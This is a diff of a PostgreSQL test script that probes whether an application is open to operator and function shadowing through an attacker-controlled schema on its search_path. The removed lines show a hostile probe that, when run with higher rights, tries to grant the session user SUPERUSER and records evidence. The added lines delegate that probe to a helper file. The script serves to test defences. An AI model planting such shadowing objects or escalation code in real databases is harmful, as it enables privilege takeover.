@@ -1,33 +1,17 @@
 -- Operator and function shadowing in a schema the attacker may create objects in
 -- (hostile_ops, first in its search_path): operators for the built-in types and
--- functions named like built-ins, each running hostile_ops.probe() -- which acts
--- as pg_temp.hostile_probe does when it runs with rights not the attacker's --
+-- functions named like built-ins, each running hostile_ops.probe() -- which calls
+-- pg_temp.hostile_probe(), the probe of probe.sql --
 -- then the application's usual flows.  Run as the application role with
 -- -v company=... -v user_id=... (a contract manager of its own company).
 \set VERBOSITY verbose
+\ir probe.sql
+-- The operators' probe, in the attacker's schema: pg_temp.hostile_probe() itself.
 CREATE FUNCTION hostile_ops.probe(what pg_catalog.text)
 RETURNS pg_catalog.bool
-LANGUAGE plpgsql
+LANGUAGE sql
 SET search_path = pg_catalog, pg_temp
-AS $$
-BEGIN
-	IF current_user OPERATOR(pg_catalog.<>) session_user
-		OR (SELECT r.rolsuper FROM pg_catalog.pg_roles AS r WHERE r.rolname OPERATOR(pg_catalog.=) current_user) THEN
-		RAISE WARNING 'HOSTILE_PWNED: % ran as %', what, current_user;
-		BEGIN
-			EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', session_user);
-		EXCEPTION WHEN OTHERS THEN
-			NULL;
-		END;
-		BEGIN
-			INSERT INTO public.hostile_evidence (what, ran_as) VALUES (what, current_user);
-		EXCEPTION WHEN OTHERS THEN
-			NULL;
-		END;
-	END IF;
-	RETURN true;
-END
-$$;
+AS $$ SELECT pg_temp.hostile_probe(what, true) $$;
 
 -- Boolean operators: (operator, left type, right type); each one's function runs
 -- the probe and then answers as the built-in operator does.
